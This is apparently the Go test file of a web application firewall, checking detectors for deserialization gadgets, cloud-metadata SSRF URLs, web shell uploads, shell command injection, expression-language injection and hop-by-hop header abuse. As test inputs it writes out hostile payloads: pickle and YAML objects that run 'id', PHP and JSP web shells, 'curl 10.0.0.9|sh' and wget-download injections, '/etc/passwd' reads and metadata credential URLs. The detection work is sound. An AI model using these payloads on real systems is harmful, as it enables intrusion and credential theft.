package waf

import (
	"bytes"
	"encoding/base64"
	"net/http"
	"strconv"
	"strings"
	"testing"
)

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// TestHopByHopAbuse sends, on the wire, requests whose Connection header
// asks the proxy to drop an end-to-end header (the corpus harnesses write
// their own Connection header, so the captures cannot carry one), and
// their twins that browsers send.
func TestHopByHopAbuse(t *testing.T) {
	w, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	addr := blockServer(t, w)
	for _, c := range []struct {
		conn string
		want int
	}{
		{"keep-alive, X-F5-Auth-Token", http.StatusForbidden},
		{"close, X-Forwarded-For", http.StatusForbidden},
		{"Authorization", http.StatusForbidden},
		{"keep-alive,x-real-ip", http.StatusForbidden},
		{"keep-alive", http.StatusOK},
		{"Upgrade", http.StatusOK},
		{"keep-alive, Upgrade", http.StatusOK},
		{"TE", http.StatusOK},
	} {
		const body = `{"command":"list"}`
		raw := "POST /mgmt/tm/util/bash HTTP/1.1\r\nHost: app.example\r\nContent-Type: application/json\r\n" +
			"Connection: " + c.conn + "\r\nConnection: close\r\nContent-Length: " + strconv.Itoa(len(body)) + "\r\n\r\n" + body
		if r := send(addr, []byte(raw)); r.status != c.want {
			t.Errorf("Connection: %s: status %d (rules %v), want %d", c.conn, r.status, r.ids, c.want)
		}
	}
}

// Table tests of the decoders and scorers the CVE probes brought
// (serialized.go, metadatahost.go, uploadname.go, braceexp.go,
// cvecontext.go), and their fuzz targets.

func TestSerializedKind(t *testing.T) {
	java := "\xac\xed\x00\x05sr\x00\x11java.util.HashMap"
	cases := []struct{ in, want string }{
		{"AAEAAAD/////AQAAAAAAAAAMAgAAAF9TeXN0ZW0=", ".NET BinaryFormatter"},
		{"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00", ".NET BinaryFormatter"},
		{"0001000000ffffffff01000000000000000c02", ".NET BinaryFormatter"},
		{"cposix\nsystem\n(S'id'\ntR.", "Python pickle"},
		{"(S'id'\nios\nsystem\n.", "Python pickle"},
		{b64("\x80\x04\x95\x1e\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94."), "Python pickle"},
		{b64("\x80\x02cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."), "Python pickle"},
		{`O:8:"stdClass":1:{s:4:"role";s:5:"admin";}`, "PHP object"},
		{`a:1:{i:0;O:10:"Monolog\Log":1:{s:4:"file";s:1:"x";}}`, "PHP object"},
		{b64(`O:8:"Example":1:{s:3:"cmd";s:2:"id";}`), "PHP object"},
		{`!!python/object/apply:os.system ["id"]`, "YAML object tag"},
		{"x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader []]", "YAML object tag"},
		{"--- !ruby/object:Gem::Installer\ni: x", "YAML object tag"},
		{b64("\x04\b[\ao:\x15Gem::Requirement\x06:\x10@requirements"), "Ruby Marshal"},
		// Data, not objects.
		{`a:2:{s:4:"lang";s:2:"en";s:5:"theme";s:4:"dark";}`, ""},
		{"/wEPDwULLTE2MTY2ODcyMjlkZA==", ""},
		{b64("\x80\x04\x95\x10\x00\x00\x00\x00\x00\x00\x00}\x94\x8c\x01a\x94K\x01s."), ""},
		{"eyJ1c2VyIjoiYW5uIn0", ""},
		{"cat\ndog\nthe cat is good.", ""},
		{"O:8 ratio on the gauge", ""},
		{"server:\n  port: 8080\nlist: !!set {a, b}\n", ""},
		{b64("\x04\b{\x06I\"\x0fsession_id\x06:\x06ETI\"\x06x\x06;\x00T"), ""},
		{"HexAsciiSerializedMap:ACED00057372001173", "Java serialization"},
		{`{"blob":"x rO0ABXNyABFqYXZh"}`, "Java serialization"},
		{"rO0ABX is what the docs show", ""},
		{java, ""}, // rule 90018's
		{"", ""},
		{"deadbeefdeadbeef", ""},
	}
	for _, c := range cases {
		if got := serializedKind(c.in); got != c.want {
			t.Errorf("serializedKind(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func FuzzSerializedKind(f *testing.F) {
	for _, s := range []string{"AAEAAAD/////", "cos\nsystem\n(S'id'\ntR.", `O:1:"a":0:{}`, "!!python/object:x", "gASVAAAA", "00010000"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		_ = serializedKind(s)
		_ = serializedKind(b64(s))
	})
}

// FuzzSerializedPrefilter: the literal tests before the PHP object and
// YAML tag patterns refuse no value either pattern matches.
func FuzzSerializedPrefilter(f *testing.F) {
	for _, s := range []string{`O:8:"stdClass":1:{s:4:"role";}`, `x;C:+12:"A\\B":3:{`, "!!python/object/apply:os.system", "--- !RUBY/Object:Gem", "a!!b", "!r", "x!", "thanks!", "!ruby/hash:", "!Ruby/struct:"} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		if phpObjectRx.Match(b) && !bytes.Contains(b, []byte(`:"`)) {
			t.Errorf("PHP object pattern matches %q, which holds no `:\"`", b)
		}
		if yamlTagRx.Match(b) && !mayHoldYAMLTag(b) {
			t.Errorf("YAML tag pattern matches %q, which mayHoldYAMLTag refuses", b)
		}
	})
}

func TestMayHoldYAMLTag(t *testing.T) {
	for _, c := range []struct {
		in   string
		want bool
	}{
		{"", false},
		{"!", false},
		{"thanks!", false},
		{"hi! there!", false},
		{"!!set", true},
		{"x !ruby/object:", true},
		{"x! !Ruby/hash:", true},
		{"a! b! c!R", true},
		{"!x!r", true},
	} {
		if got := mayHoldYAMLTag([]byte(c.in)); got != c.want {
			t.Errorf("mayHoldYAMLTag(%q) = %v, want %v", c.in, got, c.want)
		}
	}
}

func TestMetadataURL(t *testing.T) {
	cases := []struct{ in, want string }{
		{"http://169.254.169.254/latest/meta-data/", "169.254.169.254"},
		{"http://2852039166/latest/meta-data/", "2852039166"},
		{"http://0xA9FEA9FE/", "0xa9fea9fe"},
		{"http://0xa9.0xfe.0xa9.0xfe/latest/", "0xa9.0xfe.0xa9.0xfe"},
		{"http://0251.0376.0251.0376/", "0251.0376.0251.0376"},
		{"http://169.254.43518/", "169.254.43518"},
		{"http://[::ffff:a9fe:a9fe]/latest/", "[::ffff:a9fe:a9fe]"},
		{"http://[::ffff:169.254.169.254]:80/x", "[::ffff:169.254.169.254]"},
		{"http://[0:0:0:0:0:ffff:a9fe:a9fe]/", "[0:0:0:0:0:ffff:a9fe:a9fe]"},
		{"http://[fd00:ec2::254]/latest/", "[fd00:ec2::254]"},
		{"http://metadata.google.internal/computeMetadata/v1/", "metadata.google.internal"},
		{"http://metadata.google.internal./computeMetadata/v1/", "metadata.google.internal"},
		{"http://100.100.100.200/latest/meta-data/", "100.100.100.200"},
		{"http://169.254.170.2/v2/credentials", "169.254.170.2"},
		{"http://169.254.169.254.nip.io/", "169.254.169.254.nip.io"},
		{"http://169-254-169-254.sslip.io/", "169-254-169-254.sslip.io"},
		{"http://instance-data/latest/", "instance-data"},
		{"http://user@169.254.169.254/", "169.254.169.254"},
		{"http://x.example:8080@169.254.169.254/latest/", "169.254.169.254"},
		{"//169.254.169.254/latest/", "169.254.169.254"},
		{"gopher://169.254.169.254:80/_GET", "169.254.169.254"},
		{`{"callback":"http://169.254.169.254/latest/user-data"}`, "169.254.169.254"},
		{`<iframe src="http://169.254.169.254/latest/">`, "169.254.169.254"},
		// Other hosts, and addresses in text no server fetches.
		{"https://api.example.com/v1/metadata", ""},
		{"http://10.0.0.5:8080/", ""},
		{"http://169.255.1.1/", ""},
		{"http://254.169.254.169/", ""},
		{"see http://169.254.169.254/ in the docs", ""},
		{"the metadata service answers on a link-local address", ""},
		{"http://metadata.example.com/", ""},
		{"http://1.2.3.4.5.example/", ""},
		{"", ""},
	}
	for _, c := range cases {
		if got := metadataURL(c.in); got != c.want {
			t.Errorf("metadataURL(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestParseInetAton(t *testing.T) {
	cases := []struct {
		in, want string
		ok       bool
	}{
		{"169.254.169.254", "169.254.169.254", true},
		{"2852039166", "169.254.169.254", true},
		{"0xa9fea9fe", "169.254.169.254", true},
		{"0251.0376.0251.0376", "169.254.169.254", true},
		{"169.254.43518", "169.254.169.254", true},
		{"169.16689662", "169.254.169.254", true},
		{"127.1", "127.0.0.1", true},
		{"0x", "0.0.0.0", true},
		{"256.1.1.1", "", false},
		{"1.2.3.4.5", "", false},
		{"4294967296", "", false},
		{"1.256", "1.0.1.0", true},
		{"1.2.65536", "", false},
		{"08.1.1.1", "", false},
		{"example.com", "", false},
		{"", "", false},
		{"1..2", "", false},
	}
	for _, c := range cases {
		a, ok := parseInetAton(c.in)
		if ok != c.ok || ok && a.String() != c.want {
			t.Errorf("parseInetAton(%q) = %v, %v; want %s, %v", c.in, a, ok, c.want, c.ok)
		}
	}
}

func FuzzMetadataURL(f *testing.F) {
	for _, s := range []string{"http://169.254.169.254/", "http://[::ffff:a9fe:a9fe]/", "//0x7f.1/", "http://a@b@c:1/", "x=//[", "http://1.2.3.4.5.nip.io"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if h := metadataURL(s); h != "" && !strings.Contains(strings.ToLower(s), h) {
			t.Errorf("metadataURL(%q) = %q, not a part of the value", s, h)
		}
		_, _ = parseInetAton(s)
	})
}

func TestUploadExt(t *testing.T) {
	cases := []struct{ in, want string }{
		{"shell.php", ".php"},
		{"SHELL.PHP", ".php"},
		{"shell.php/", ".php"},
		{"shell.php.", ".php"},
		{"shell.php ", ".php"},
		{"shell.php::$DATA", ".php"},
		{"shell.asp:stream", ".asp"},
		{"shell.asp;.jpg", ".asp"},
		{"a;b.jpg", ".jpg"},
		{"../../var/www/x.jsp", ".jsp"},
		{"..\\..\\x.aspx", ".aspx"},
		{"photo.jpg", ".jpg"},
		{"my photo (1).jpeg", ".jpeg"},
		{".htaccess", ".htaccess"},
		{"README", ""},
		{"", ""},
	}
	for _, c := range cases {
		if got := uploadExt(c.in); got != c.want {
			t.Errorf("uploadExt(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestPHPInText(t *testing.T) {
	cases := []struct {
		in   string
		want bool
	}{
		{"gif89a<? system($_get['c']); ?>", true},
		{"<?\n$f = $_post['x'];", true},
		{"<?  @eval($_post[1]) ?>", true},
		{"\xff\xd8\xff<script language=\"php\">system($_get['c']);</script>", true},
		{"<script language=php>phpinfo();</script>", true},
		{"<?xml version=\"1.0\"?><a/>", false},
		{"what? <? is that", false},
		{"<script language=\"javascript\">x()</script>", false},
		{"\x89png\r\n\x1a\n<?\x00\x01", false},
	}
	for _, c := range cases {
		if got := phpInText([]byte(c.in)); got != c.want {
			t.Errorf("phpInText(%q) = %v, want %v", c.in, got, c.want)
		}
	}
}

func TestServerPageCode(t *testing.T) {
	for _, c := range []struct {
		in   string
		want bool
	}{
		{`<%runtime.getruntime().exec(request.getparameter("c"));%>`, true},
		{`<%!string c;%>`, true},
		{`<%execute request("x")%>`, true},
		{`<%response.write(1)%>`, true},
		{"growth of 5<% over the year", false},
		{"<%-- a comment --%>", false},
		{"50% <% 60%", false},
	} {
		if got := serverPageCodeRx.MatchString(c.in); got != c.want {
			t.Errorf("serverPageCodeRx on %q = %v, want %v", c.in, got, c.want)
		}
	}
}

func FuzzUploadName(f *testing.F) {
	for _, s := range []string{"shell.php::$DATA", "a;.jpg", "x/", "<? a();", "<script language=php>"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if e := uploadExt(s); e != "" && !strings.Contains(strings.ToLower(s), e) {
			t.Errorf("uploadExt(%q) = %q, not in the name", s, e)
		}
		_ = phpInText([]byte(strings.ToLower(s)))
	})
}

func TestExpandBraceCommands(t *testing.T) {
	cases := []struct{ in, want string }{
		{";{cat,/etc/passwd}", "; cat /etc/passwd "},
		{"a;{ping,-c,3,10.0.0.9}", "a; ping -c 3 10.0.0.9 "},
		{"$({id,})", "$( id  )"},
		{"|{wget,10.0.0.9/x,-o,/tmp/x}", "| wget 10.0.0.9/x -o /tmp/x "},
		{"fields=friends{id,name}", "fields=friends{id,name}"},
		{"{id,name}", "{id,name}"},
		{"choose {red,green}", "choose {red,green}"},
	}
	for _, c := range cases {
		if got := expandBraceCommands(c.in); got != c.want {
			t.Errorf("expandBraceCommands(%q) = %q, want %q", c.in, got, c.want)
		}
	}
	for _, c := range []struct {
		in   string
		want int
	}{
		{"a;{ping,-c,3,10.0.0.9}", scoreAttack},
		{"-c id", scoreAttack},
		{"-c curl 10.0.0.9|sh", scoreAttack},
		{"-c config.yaml", scoreNone},
		{"fields=friends{id,name}", scoreNone},
	} {
		if got := shellScore(c.in); got != c.want {
			t.Errorf("shellScore(%q) = %d, want %d", c.in, got, c.want)
		}
	}
}

func FuzzExpandBraceCommands(f *testing.F) {
	for _, s := range []string{";{a,b}", "{,}", "$({x,y,z})", "|{{a,b},c}"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if len(expandBraceCommands(s)) > 2*len(s)+8 {
			t.Errorf("expandBraceCommands(%q) grew past twice its input", s)
		}
	})
}

func TestCVEDiscounts(t *testing.T) {
	for _, c := range []struct {
		in   string
		want bool
	}{
		{"Hello ${user.firstName}, your order #{order.id} ships today.", true},
		{"how to escape %{name} and ${price} in a message bundle", true},
		{"Total: ${total} ({{count}} items)", true},
		{"${@system(id)} is what it runs", false},
		{"${7*7} and more words here", false},
		{"${jndi:ldap://x/a} in the header", false},
		{"plain words without placeholders", false},
	} {
		if got := placeholderText(c.in); got != c.want {
			t.Errorf("placeholderText(%q) = %v, want %v", c.in, got, c.want)
		}
	}
	for _, c := range []struct {
		in   string
		want int
	}{
		{"Use java.lang.Runtime#availableProcessors to size the pool", scoreNone},
		{"ProcessBuilder or Runtime, which one?", scoreNone},
		{"java.lang.Runtime.getRuntime().exec('id')", scoreAttack},
		{"@java.lang.Runtime@getRuntime()", scoreAttack},
		{"${T(java.lang.Runtime)}", scoreAttack},
		{`<void class="java.lang.ProcessBuilder">`, scoreAttack},
	} {
		if got := javaScore(c.in); got != c.want {
			t.Errorf("javaScore(%q) = %d, want %d", c.in, got, c.want)
		}
	}
	png := "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"
	for _, c := range []struct {
		in   string
		want int
	}{
		{png, scoreNone},
		{"data:image/jpeg;base64," + b64("\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01"), scoreNone},
		{"data:image/gif;base64," + b64("GIF89a\x01\x00\x01\x00\x80\x00"), scoreNone},
		{"data:image/png;base64," + b64("<?php system($_GET['c']); ?>"), scoreAttack},
		{"data:image/svg+xml;base64," + b64("<svg onload=alert(1)>"), scoreAttack},
		{"data:text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+", scoreAttack},
		{"data://text/plain,<?php phpinfo();?>", scoreAttack},
		{png + " data:text/html,<script>", scoreAttack},
	} {
		if got := dataURIScore(c.in); got != c.want {
			t.Errorf("dataURIScore(%q) = %d, want %d", c.in, got, c.want)
		}
	}
	for _, c := range []struct {
		in   string
		want bool
	}{
		{"$where", true},
		{`{"$where": "sleep(1)"}`, true},
		{"q[$where]=1", true},
		{"$where=1==1", true},
		{"mongodb $where and $ne operators explained", false},
		{"price $whereabouts", false},
	} {
		if got := whereOperator(c.in); got != c.want {
			t.Errorf("whereOperator(%q) = %v, want %v", c.in, got, c.want)
		}
	}
	for _, c := range []struct {
		value, name string
		want        bool
	}{
		{"where does Windows keep win.ini and hosts?", "win.ini", true},
		{"type win.ini", "win.ini", false},
		{"please read ..\\win.ini for me", "win.ini", false},
		{"where is etc/passwd kept on the box", "etc/passwd", false},
	} {
		if got := osFileInProse(c.value, c.name); got != c.want {
			t.Errorf("osFileInProse(%q, %q) = %v, want %v", c.value, c.name, got, c.want)
		}
	}
}

func FuzzCVEDiscounts(f *testing.F) {
	for _, s := range []string{"${a.b} text", "data:image/png;base64,iVBORw0KGgoAAAANSUhEUg", "$where:", "{{x}}"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		_ = placeholderText(s)
		_ = javaScore(s)
		_ = dataURIScore(s)
		_ = whereOperator(s)
	})
}
